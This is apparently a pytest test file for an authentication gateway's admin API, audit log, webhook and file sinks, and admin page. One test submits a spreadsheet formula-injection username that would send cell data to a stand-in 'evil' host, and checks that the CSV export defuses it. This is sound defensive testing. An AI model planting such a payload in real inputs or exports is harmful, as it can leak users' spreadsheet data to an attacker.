"""The admin API and the audit trail through the real gateway and store: who may
use it, force logout, locks across a restart, every event recorded once with
its actor, the file and webhook sinks, retention."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from authkit import api_login, send
from conftest import Clock
from gateway.state import GATEWAY
from gateway.store.memory import MemorySessionStore

SAME_SITE = [("Origin", "http://127.0.0.1:8080")]
ADMIN_ENDPOINTS = [
    ("GET", "/_gateway/api/admin/sessions"), ("GET", "/_gateway/api/admin/users"),
    ("GET", "/_gateway/api/admin/audit"), ("GET", "/_gateway/api/admin/sessions/x"),
    ("GET", "/_gateway/api/admin/stats"),
    ("DELETE", "/_gateway/api/admin/sessions/x"),
    ("POST", "/_gateway/api/admin/users/alice/logout"),
    ("POST", "/_gateway/api/admin/users/alice/lock"),
    ("POST", "/_gateway/api/admin/users/alice/unlock"),
]


@pytest.fixture
async def console(upstream: Any, make_config: Any, gateway: Any, store_settings: Any) -> Any:
    config = make_config(str(upstream.make_url("/")), session=store_settings)
    client = await gateway(config)
    return client, await api_login(client, "Admin", "admin-pw")


async def audit(client: Any, admin: str, query: str = "") -> list[dict[str, Any]]:
    await client.app[GATEWAY].audit.flush()
    r = await send(client, "GET", f"/_gateway/api/admin/audit?limit=500{query}", token=admin)
    assert r.status == 200, r
    return r.json()["events"]


@pytest.mark.parametrize("method, path", ADMIN_ENDPOINTS)
async def test_only_admins_may(console, method, path):
    client, _ = console
    alice = await api_login(client)
    r = await send(client, method, path, token=alice, headers=SAME_SITE)
    assert (r.status, r.json()["error"]) == (403, "FORBIDDEN")
    r = await send(client, method, path, headers=SAME_SITE)
    assert r.status == 401


async def test_a_role_removed_from_the_users_file_takes_effect_at_once(
        upstream, make_config, gateway, tmp_path):
    from conftest import USERS, write_users
    client = await gateway(make_config(str(upstream.make_url("/"))))
    admin = await api_login(client, "Admin", "admin-pw")
    assert (await send(client, "GET", "/_gateway/api/admin/users", token=admin)).status == 200
    write_users(tmp_path, [{**u, "roles": ["user"]} if u["username"] == "Admin" else u
                           for u in USERS])
    client.app[GATEWAY].users.all()            # the worker's file check, without waiting
    r = await send(client, "GET", "/_gateway/api/admin/users", token=admin)
    assert r.status == 403


async def test_sessions_are_listed_filtered_and_revoked_with_the_admin_as_actor(console):
    client, admin = console
    alice = await api_login(client)
    r = await send(client, "GET", "/_gateway/api/admin/sessions?user=alice", token=admin)
    (s,) = r.json()["sessions"]
    assert s["user"] == "alice" and s["status"] == "ACTIVE" and s["locked"] is False
    r = await send(client, "GET", "/_gateway/api/admin/sessions?ip=203.0.113.1", token=admin)
    assert r.json()["sessions"] == []
    everyone = (await send(client, "GET", "/_gateway/api/admin/sessions",
                           token=admin)).json()["sessions"]
    assert {x["user"] for x in everyone} == {"alice", "admin"}
    detail = await send(client, "GET", f"/_gateway/api/admin/sessions/{s['id']}", token=admin)
    assert detail.json()["session"]["id"] == s["id"]
    r = await send(client, "DELETE", f"/_gateway/api/admin/sessions/{s['id']}", token=admin,
                   headers=SAME_SITE)
    assert (r.status, r.json()) == (200, {"revoked": 1})
    assert (await send(client, "GET", "/x", token=alice)).status == 401
    revoked = [e for e in await audit(client, admin) if e["type"] == "session.revoked"]
    assert [(e["user"], e["actor"]) for e in revoked] == [("alice", "admin:admin")]
    assert revoked[0]["session"] and s["id"] not in json.dumps(revoked)   # a fingerprint


async def test_paging_all_sessions_with_a_filter(console):
    client, admin = console
    for _ in range(5):
        await api_login(client)
    seen, cursor = [], ""
    while True:
        r = await send(client, "GET", f"/_gateway/api/admin/sessions?user=&limit=2"
                                      f"{'&cursor=' + cursor if cursor else ''}", token=admin)
        body = r.json()
        seen += [s["id"] for s in body["sessions"]]
        cursor = body["next_cursor"]
        if not cursor:
            break
    assert len(seen) == len(set(seen)) == 6
    r = await send(client, "GET", "/_gateway/api/admin/sessions?cursor=garbage", token=admin)
    assert r.status == 400


async def test_force_logout_ends_every_session_of_the_user(console):
    client, admin = console
    tokens = [await api_login(client) for _ in range(3)]
    r = await send(client, "POST", "/_gateway/api/admin/users/ALICE/logout", token=admin,
                   headers=SAME_SITE)
    assert (r.status, r.json()) == (200, {"revoked": 3})
    for token in tokens:
        assert (await send(client, "GET", "/x", token=token)).status == 401
    events = await audit(client, admin, "&user=alice")
    assert [e["type"] for e in events].count("session.revoked") == 3
    assert [e["actor"] for e in events if e["type"] == "user.logged_out_by_admin"] == \
        ["admin:admin"]


async def test_a_lock_ends_sessions_refuses_sign_ins_and_holds_across_a_restart(
        upstream, make_config, gateway, redis_server):
    redis_server.flush()
    config = make_config(str(upstream.make_url("/")),
                         session={"store": "redis", "redis": {"url": redis_server.url}})
    client = await gateway(config)
    admin = await api_login(client, "Admin", "admin-pw")
    alice = await api_login(client)
    r = await send(client, "POST", "/_gateway/api/admin/users/alice/lock", token=admin,
                   headers=SAME_SITE)
    assert (r.status, r.json()) == (200, {"locked": True, "revoked": 1})
    assert (await send(client, "GET", "/x", token=alice)).status == 401
    again = await gateway(config)                      # another gateway, the same Redis
    r = await send(again, "POST", "/_gateway/api/login",
                   json={"username": "alice", "password": "alice-pw"})
    assert (r.status, r.json()["error"]) == (401, "INVALID_CREDENTIALS")   # no hint why
    users = (await send(again, "GET", "/_gateway/api/admin/users", token=admin)).json()["users"]
    assert next(u for u in users if u["username"] == "alice")["locked_by"] == "admin:admin"
    r = await send(again, "POST", "/_gateway/api/admin/users/alice/unlock", token=admin,
                   headers=SAME_SITE)
    assert r.json() == {"locked": False}
    await api_login(again)
    failure = [e for e in await audit(again, admin) if e["type"] == "login.failure"]
    assert [e["details"]["reason"] for e in failure] == ["locked"]
    types = [e["type"] for e in await audit(again, admin)]
    assert types.count("user.locked") == 1 and types.count("user.unlocked") == 1


async def test_destructive_changes_ask_for_the_password_once_the_sign_in_is_old(
        upstream, make_config, gateway):
    clock = Clock()
    client = await gateway(make_config(str(upstream.make_url("/")),
                                       session={"reauth_after": "10m", "idle_timeout": "1h"}),
                           clock=clock)
    admin = await api_login(client, "Admin", "admin-pw")
    await api_login(client)
    clock.advance(11 * 60)
    path = "/_gateway/api/admin/users/alice/logout"
    r = await send(client, "POST", path, token=admin, headers=SAME_SITE)
    assert (r.status, r.json()["error"]) == (401, "REAUTH_REQUIRED")
    r = await send(client, "POST", path, token=admin, headers=SAME_SITE,
                   json={"password": "admin-pw"})
    assert r.json() == {"revoked": 1}
    r = await send(client, "POST", path, token=admin, headers=[("Origin", "https://evil.example")])
    assert r.status == 403


async def test_every_kind_of_event_is_recorded_once_with_its_actor(
        upstream, make_config, gateway, redis_server):
    """Two gateways on one Redis stand for two workers: still one record each."""
    redis_server.flush()
    config = make_config(str(upstream.make_url("/")),
                         session={"store": "redis", "redis": {"url": redis_server.url}})
    first, second = await gateway(config), await gateway(config)
    admin = await api_login(first, "Admin", "admin-pw")
    alice = await api_login(second)
    for name, password in (("alice", "nope"), ("nobody", "x"), ("dave", "dave-pw")):
        await send(first, "POST", "/_gateway/api/login",
                   json={"username": name, "password": password})
    await send(second, "POST", "/_gateway/logout", token=alice, json={})
    await second.app[GATEWAY].audit.flush()
    events = await audit(first, admin)
    got = sorted((e["type"], e["user"], e["actor"], e["details"].get("reason", ""))
                 for e in events)
    assert got == sorted([
        ("login.success", "admin", "admin", ""), ("login.success", "alice", "alice", ""),
        ("login.failure", "alice", "system", "bad_password"),
        ("login.failure", "nobody", "system", "unknown_user"),
        ("login.failure", "dave", "system", "disabled"),
        ("logout", "alice", "alice", "logout")])
    assert all(set(e) == {"time", "type", "severity", "actor", "user", "session", "ip",
                          "device", "result", "details"} for e in events)
    failures = [e for e in events if e["type"] == "login.failure"]
    assert all(e["result"] == "failure" and e["severity"] == "warning" for e in failures)


async def test_a_new_users_file_or_config_is_recorded_once_across_workers(
        upstream, make_config, gateway, redis_server, tmp_path):
    """Two gateways on one Redis stand for two workers; the first start records
    nothing (no version to compare with), a change once."""
    from conftest import USERS, write_users
    redis_server.flush()
    config = make_config(str(upstream.make_url("/")),
                         session={"store": "redis", "redis": {"url": redis_server.url}})
    first, second = await gateway(config), await gateway(config)
    admin = await api_login(first, "Admin", "admin-pw")

    async def recorded(kind: str, count: int) -> list[dict[str, Any]]:
        for _ in range(100):                       # the versions are compared in the background
            for client in (first, second):
                await client.app[GATEWAY].audit.flush()
            events = [e for e in await audit(first, admin) if e["type"] == kind]
            if len(events) >= count:
                return events
            await asyncio.sleep(0.02)
        return events
    assert await recorded("users.reloaded", 0) == []
    write_users(tmp_path, USERS[:2])                 # dave is gone
    for client in (first, second):
        client.app[GATEWAY].users.all()            # each worker's file check
    (event,) = await recorded("users.reloaded", 1)
    assert (event["actor"], event["details"]["users"]) == ("users-file", "2")
    assert event["severity"] == "notice"

    changed = make_config(str(upstream.make_url("/")), session={
        "store": "redis", "redis": {"url": redis_server.url}, "idle_timeout": "5m"})
    await gateway(changed)
    await gateway(changed)                           # a second worker with the same config
    (event,) = await recorded("config.reloaded", 1)
    assert (event["actor"], event["details"]["changed"]) == ("config-file", "session")
    await asyncio.sleep(0.1)
    assert len(await recorded("users.reloaded", 2)) == 1     # the same users file: no change


def test_config_fingerprints_are_the_same_for_the_same_config(make_config, tmp_path):
    """Across processes too: a set's order follows each process's hash seed."""
    import subprocess
    import sys
    from gateway.audit.versions import config_fingerprints
    a = make_config("http://127.0.0.1:9", upstreams=[{
        "name": "app", "url": "http://127.0.0.1:9", "websocket_origins": [
            f"https://o{i}.example" for i in range(8)]}])
    script = ("import pathlib, yaml; from gateway.config.load import build_config; "
              "from gateway.audit.versions import config_fingerprints; "
              f"c = build_config(yaml.safe_load(open({str(tmp_path / 'config.yaml')!r})), "
              f"base_dir=pathlib.Path({str(tmp_path)!r}), env={{}}); print(config_fingerprints(c))")
    seen = {subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                           env={"PYTHONHASHSEED": seed}, check=True).stdout
            for seed in ("1", "2", "3")}
    assert seen == {f"{config_fingerprints(a)}\n"}
    b = make_config("http://127.0.0.1:9")
    c = make_config("http://127.0.0.1:9", secret="another-secret-" + "x" * 40)
    changed = {k for k, v in config_fingerprints(c).items() if config_fingerprints(b)[k] != v}
    assert changed == {"secret"}
    elsewhere = make_config("http://127.0.0.1:9", listen="127.0.0.1:9999", log_level="debug",
                            session={"redis": {"url": "redis://10.0.0.5:6379/0"}})
    assert config_fingerprints(elsewhere) == config_fingerprints(b)     # another instance


async def test_the_audit_viewer_filters_and_exports(console):
    client, admin = console
    await api_login(client)
    await send(client, "POST", "/_gateway/api/login", json={"username": "alice", "password": "x"})
    only = await audit(client, admin, "&type=login.*&user=alice")
    assert sorted(e["type"] for e in only) == ["login.failure", "login.success"]
    assert await audit(client, admin, "&since=2999-01-01T00:00:00Z") == []
    r = await send(client, "GET", "/_gateway/api/admin/audit?format=csv&type=login.failure",
                   token=admin)
    assert r.headers["Content-Type"].startswith("text/csv")
    lines = r.text.strip().splitlines()
    assert lines[0].startswith("time,type,severity") and len(lines) == 2
    r = await send(client, "GET", "/_gateway/api/admin/audit?since=yesterday", token=admin)
    assert r.status == 400


async def test_the_file_sink_writes_json_lines(upstream, make_config, gateway, tmp_path):
    client = await gateway(make_config(str(upstream.make_url("/")),
                                       audit={"file": "audit.jsonl"}))
    await api_login(client)
    await client.app[GATEWAY].audit.flush()
    lines = (tmp_path / "audit.jsonl").read_text().splitlines()
    assert [json.loads(x)["type"] for x in lines] == ["login.success"]


async def test_the_webhook_gets_its_events_and_survives_the_receiver_being_down(
        upstream, make_config, gateway, aiohttp_server):
    received: list[dict[str, Any]] = []
    up = asyncio.Event()

    async def hook(request: web.Request) -> web.Response:
        if not up.is_set():
            return web.Response(status=503)          # down for now
        received.append(await request.json())
        return web.Response(status=204)
    app = web.Application()
    app.router.add_post("/hook", hook)
    receiver = await aiohttp_server(app)
    client = await gateway(make_config(str(upstream.make_url("/")), audit={"webhook": {
        "url": str(receiver.make_url("/hook")), "events": ["login.*"]}}))
    await api_login(client)
    await send(client, "POST", "/_gateway/api/login", json={"username": "alice", "password": "x"})
    await client.app[GATEWAY].audit.flush()
    await asyncio.sleep(0.2)
    assert received == []
    up.set()                                          # back: the retry delivers, in order
    for _ in range(100):
        if len(received) == 2:
            break
        await asyncio.sleep(0.05)
    assert [e["type"] for e in received] == ["login.success", "login.failure"]


async def test_retention_trims_old_entries():
    clock = Clock()
    store = MemorySessionStore(clock)
    await store.audit_append([{"type": "old"}], retention=3600)
    clock.advance(3601)
    await store.audit_append([{"type": "new"}], retention=3600)
    assert [r["type"] for _, r in await store.audit_page(None, 10)] == ["new"]


async def test_the_redis_stream_is_trimmed_by_age(redis_server):
    """Entry ids are Redis's own clock, so this one waits a little, for real."""
    from gateway.config import RedisConfig
    from gateway.store.redis import RedisSessionStore
    redis_server.flush()
    store = RedisSessionStore(RedisConfig(url=redis_server.url))
    try:
        await store.audit_append([{"n": n} for n in range(250)], retention=3600)
        await asyncio.sleep(0.3)
        await store.audit_append([{"n": "late"}], retention=0.2)
        # MINID ~ trims whole stream nodes (100 entries): approximately.
        entries = await store.audit_page(None, 1000)
        assert entries[0][1] == {"n": "late"} and len(entries) <= 51
    finally:
        await store.close()


# -- the page -----------------------------------------------------------------------------

async def test_the_page_is_for_admins_and_its_forms_lock_and_unlock(console):
    from authkit import csrf_of
    client, admin = console
    alice = await api_login(client)
    r = await send(client, "GET", "/_gateway/admin", token=alice, accept="text/html")
    assert r.status == 403
    r = await send(client, "GET", "/_gateway/admin", accept="text/html")
    assert r.status == 303 and "/_gateway/login" in r.headers["Location"]
    r = await send(client, "GET", "/_gateway/admin?view=users", token=admin, accept="text/html")
    assert r.status == 200 and "<script" not in r.text and "alice" in r.text
    form_cookie = r.set_cookies()["gateway_form"].split(";", 1)[0]
    csrf = csrf_of(r.text)

    async def submit(**fields: str) -> Any:
        return await send(client, "POST", "/_gateway/admin", accept="text/html",
                          headers=[("Cookie", f"gateway_session={admin}; {form_cookie}"),
                                   *SAME_SITE], data={"csrf_token": csrf, **fields})
    r = await submit(action="lock", user="alice", view="users")
    assert r.status == 200 and "Locked alice; 1 session ended." in r.text
    assert (await send(client, "GET", "/x", token=alice)).status == 401
    r = await submit(action="unlock", user="alice", view="users")
    assert "Unlocked alice." in r.text
    await client.app[GATEWAY].audit.flush()
    r = await send(client, "POST", "/_gateway/admin", accept="text/html",
                   headers=[("Cookie", f"gateway_session={admin}; {form_cookie}"), *SAME_SITE],
                   data={"csrf_token": "forged", "action": "lock", "user": "alice"})
    assert r.status == 403
    page = await send(client, "GET", "/_gateway/admin?view=audit&type=user.*", token=admin,
                      accept="text/html")
    assert "user.locked" in page.text and "user.unlocked" in page.text


async def test_review_a_non_admin_learns_nothing_from_bad_parameters(console):
    client, admin = console
    alice = await api_login(client)
    for path in ("/_gateway/api/admin/sessions?limit=0", "/_gateway/api/admin/audit?since=x"):
        assert (await send(client, "GET", path, token=alice)).status == 403
    r = await send(client, "GET", "/_gateway/api/admin/audit?cursor=zzz", token=admin)
    assert r.status == 400


async def test_review_the_csv_export_never_hands_a_spreadsheet_a_formula(console):
    client, admin = console
    await send(client, "POST", "/_gateway/api/login",
               json={"username": '=HYPERLINK("http://evil/?x="&A1,"x")', "password": "x"})
    await client.app[GATEWAY].audit.flush()
    r = await send(client, "GET", "/_gateway/api/admin/audit?format=csv&type=login.failure",
                   token=admin)
    import csv
    import io
    (row,) = list(csv.DictReader(io.StringIO(r.text)))
    assert row["user"].startswith("'=")


async def test_review_a_sink_that_fails_does_not_stop_the_trail(upstream, make_config,
                                                                gateway, aiohttp_server):
    refused: list[int] = []

    async def hook(request: web.Request) -> web.Response:
        refused.append(1)
        return web.Response(status=400)               # refuses everything, always
    app = web.Application()
    app.router.add_post("/hook", hook)
    receiver = await aiohttp_server(app)
    client = await gateway(make_config(str(upstream.make_url("/")), audit={
        "file": "/dev/full", "webhook": {"url": str(receiver.make_url("/hook"))}}))
    admin = await api_login(client, "Admin", "admin-pw")
    await api_login(client)                            # a full disk for the file sink
    for _ in range(100):
        if len(refused) >= 2:                          # the second event was not held up
            break
        await asyncio.sleep(0.05)
    assert len(refused) >= 2
    types = [e["type"] for e in await audit(client, admin)]
    assert types.count("login.success") == 2           # still in the store


async def test_review_one_users_sessions_come_whole(console):
    client, admin = console
    for _ in range(3):
        await api_login(client)
    r = await send(client, "GET", "/_gateway/api/admin/sessions?user=alice&limit=1",
                   token=admin)
    assert len(r.json()["sessions"]) == 3 and r.json()["next_cursor"] is None


async def test_review_an_event_written_late_is_still_found_by_time():
    """Written after newer ones (a retried batch, the CLI at exit): still found."""
    from gateway.audit.search import audit_filter, audit_search
    clock = Clock()
    store = MemorySessionStore(clock)
    start = clock()
    await store.audit_append([{"type": "a", "time": "2000-01-01T00:00:00Z"}], 3600)
    clock.advance(10)
    await store.audit_append([{"type": "late", "time": _iso(start + 5)}], 3600)
    await store.audit_append([{"type": "older", "time": _iso(start - 1)}], 3600)
    found, _ = await audit_search(store, audit_filter(since=start + 1), None, 10, start + 1)
    assert [r["type"] for r in found] == ["late"]


def _iso(ts: float) -> str:
    from datetime import datetime, timezone
    return datetime.fromtimestamp(ts, timezone.utc).isoformat().replace("+00:00", "Z")
